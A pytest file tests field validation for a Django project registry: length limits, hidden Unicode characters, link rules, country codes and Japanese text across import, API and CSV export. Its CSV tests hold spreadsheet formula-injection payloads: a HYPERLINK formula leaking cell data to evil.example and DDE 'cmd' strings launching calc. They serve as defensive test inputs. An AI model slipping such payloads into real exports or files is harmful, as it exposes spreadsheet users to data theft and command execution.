"""The field rules at the import, the API and the CSV export: the same limits and rules as the
admin (declared once, on the models), refused with a message naming the field."""

import csv
import io

import pytest
from rest_framework.test import APIClient

from projects.interchange.exporter import csv_cell
from projects.interchange.importer import InterchangeError, projects_import
from projects.interchange.schema import OperatorRecord, ProjectRecord
from projects.models import ApiKey, Assessment, Operator, Project, Publication
from tests.conftest import interchange, project_record, rated
from tests.support.actors import key_owner, publish_as_reviewer

pytestmark = pytest.mark.django_db

JAPANESE = "月面の水氷を探査する。\n　レゴリスから酸素を取り出す実証（第２段階）。"


def import_errors(*records) -> list[str]:
    with pytest.raises(InterchangeError) as refused:
        projects_import(interchange(*records))
    return refused.value.errors


def test_the_schema_takes_every_limit_from_the_model():
    fields = ProjectRecord().fields
    model = Project._meta
    assert fields["name"].max_length == model.get_field("name").max_length
    assert fields["slug"].max_length == model.get_field("slug").max_length
    assert fields["summary"].max_length == model.get_field("summary").max_length == 10_000
    assert fields["summary_ja"].max_length == model.get_field("summary_ja").max_length
    assert OperatorRecord().fields["name"].max_length == Operator._meta.get_field("name").max_length
    evidence = fields["assessments"].child.fields["evidence"]
    assert evidence.max_length == Assessment._meta.get_field("justification").max_length
    source = fields["assessments"].child.fields["source_url"]
    assert source.max_length == Assessment._meta.get_field("source_url").max_length
    note = fields["history"].fields["publications"].child.fields["note"]
    assert note.max_length == Publication._meta.get_field("note").max_length


def test_a_summary_at_its_limit_is_imported_one_over_is_refused_naming_the_field():
    projects_import(interchange(project_record("alpha", summary="s" * 10_000)))
    assert len(Project.objects.get(slug="alpha").summary) == 10_000
    (error,) = import_errors(project_record("beta", summary="s" * 10_001))
    assert error.startswith("projects[0] 'beta': summary:")


def test_hidden_characters_are_refused_naming_field_and_character():
    errors = import_errors(
        project_record(
            "alpha",
            name="Moon\u202eesab",
            summary="zero\u200bwidth",
            operator={"name": "Tsuki\u2066Co", "country": "JP", "kind": "company"},
            assessments=[rated("S7.1", 2, evidence="Evidence\u200d.")],
        )
    )
    fields = sorted(error.removeprefix("projects[0] 'alpha': ").split(": ")[0] for error in errors)
    assert fields == ["assessments[0].evidence", "name", "operator.name", "summary"]
    assert any("U+202E" in error for error in errors)


def test_a_japanese_summary_and_justification_are_imported_as_they_are():
    projects_import(
        interchange(
            project_record(
                "kaguya",
                name="かぐや",
                summary_ja=JAPANESE,
                assessments=[rated("S7.1", 3, evidence=JAPANESE)],
            )
        )
    )
    project = Project.objects.get(slug="kaguya")
    assert (project.name, project.summary_ja) == ("かぐや", JAPANESE)
    assert project.assessments.get().justification == JAPANESE


@pytest.mark.parametrize(
    "link, message",
    [
        ("ftp://example.org/report.pdf", "starting with https:// or http://"),
        ("example.org/report", "starting with https:// or http://"),
        ("https://user:secret@example.org/", "user name or password"),
    ],
)
def test_links_and_source_links_follow_one_rule(link, message):
    source = {**rated("S7.1", 2), "source_url": link}
    errors = import_errors(project_record("alpha", links=[link], assessments=[source]))
    assert len(errors) == 2
    assert errors[0].startswith("projects[0] 'alpha': links[0]: ") and message in errors[0]
    assert errors[1].startswith("projects[0] 'alpha': assessments[0].source_url: ") and message in errors[1]


@pytest.mark.parametrize("code", ["QQ", "XX", "UK", "jp"])
def test_an_operator_country_that_does_not_exist_is_refused(code):
    operator = {"name": "Somewhere Co", "country": code, "kind": "company"}
    (error,) = import_errors(project_record("alpha", operator=operator))
    assert error.startswith("projects[0] 'alpha': operator.country: ")
    assert "country code that exists" in error


def test_existing_codes_eu_and_zz_are_imported():
    records = [
        project_record(slug, operator={"name": f"{code} Co", "country": code, "kind": "agency"})
        for slug, code in [("gb", "GB"), ("eu", "EU"), ("zz", "ZZ")]
    ]
    projects_import(interchange(*records))
    assert sorted(Operator.objects.values_list("country", flat=True)) == ["EU", "GB", "ZZ"]


# ---------------------------------------------------------------------------------------------
# The API's writes


@pytest.fixture
def writer(db) -> APIClient:
    _, key = ApiKey.issue(owner=key_owner(), name="Field rules", scope="write", throttle_rate="1000/hour")
    client = APIClient()
    client.credentials(HTTP_AUTHORIZATION=f"Bearer {key}")
    return client


@pytest.mark.parametrize(
    "changes, field",
    [
        ({"summary": "s" * 10_001}, "summary"),
        ({"name": "Moon\u202eesab"}, "name"),
        ({"links": ["ftp://example.org/a"]}, "links[0]"),
        ({"links": ["https://me:pw@example.org/a"]}, "links[0]"),
        ({"operator": {"name": "Fuzz Co", "country": "QQ", "kind": "company"}}, "operator.country"),
        ({"assessments": [{**rated("S7.1", 2), "source_url": "example.org"}]}, "assessments[0].source_url"),
    ],
)
def test_the_api_refuses_what_the_rules_refuse_naming_the_field(writer, changes, field):
    response = writer.post("/api/v1/projects", project_record("alpha", **changes), format="json")
    assert response.status_code == 400, response.content[:500]
    assert [error["field"] for error in response.json()["errors"]] == [field]
    assert not Project.objects.exists()


def test_the_api_accepts_japanese_texts(writer):
    body = project_record("kaguya", summary_ja=JAPANESE, assessments=[rated("S7.1", 3, evidence=JAPANESE)])
    response = writer.post("/api/v1/projects", body, format="json")
    assert response.status_code == 201, response.content[:500]
    assert Project.objects.get(slug="kaguya").summary_ja == JAPANESE


# ---------------------------------------------------------------------------------------------
# CSV export: no formulas


@pytest.mark.parametrize(
    "value, cell",
    [
        (
            '=HYPERLINK("https://evil.example/?"&A1,"Open")',
            '\'=HYPERLINK("https://evil.example/?"&A1,"Open")',
        ),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Moon base", "Moon base"),
        (-12.5, -12.5),
        (-3, -3),
        ("-12.5", "-12.5"),
        ("+3", "+3"),
        (None, None),
    ],
)
def test_csv_cells_that_would_run_as_formulas_get_a_quote_numbers_stay_numbers(value, cell):
    assert csv_cell(value) == cell


def test_the_scores_csv_does_not_hand_spreadsheets_formulas():
    operator = {"name": "@SUM(1+1)*cmd|' /C calc'!A0", "country": "JP", "kind": "company"}
    projects_import(
        interchange(
            project_record("evil", name='=HYPERLINK("https://evil.example","Click")', operator=operator),
            project_record("minus", name="-2+3+cmd|' /C calc'!A0"),
        )
    )
    for project in Project.objects.all():
        publish_as_reviewer(project=project, note="Test publication.")
    response = APIClient().get("/api/v1/export/scores.csv")
    text = b"".join(response.streaming_content).decode()
    rows = {row["slug"]: row for row in csv.DictReader(io.StringIO(text))}
    assert rows["evil"]["name"] == '\'=HYPERLINK("https://evil.example","Click")'
    assert rows["evil"]["operator"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert rows["minus"]["name"] == "'-2+3+cmd|' /C calc'!A0"
    assert rows["evil"]["operator_country"] == "JP"
